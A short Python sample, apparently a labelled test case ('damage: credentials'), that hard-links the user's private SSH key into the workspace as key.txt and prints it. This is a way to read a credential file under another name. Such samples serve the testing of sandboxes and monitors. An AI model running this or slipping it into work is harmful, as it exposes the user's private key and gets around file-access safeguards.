# Given a second name in the workspace, and read by that.
# damage: credentials
# needs: linux
import os

os.link(os.path.expanduser("~/.ssh/id_rsa"), "key.txt")
with open("key.txt") as file:
    print(file.read())
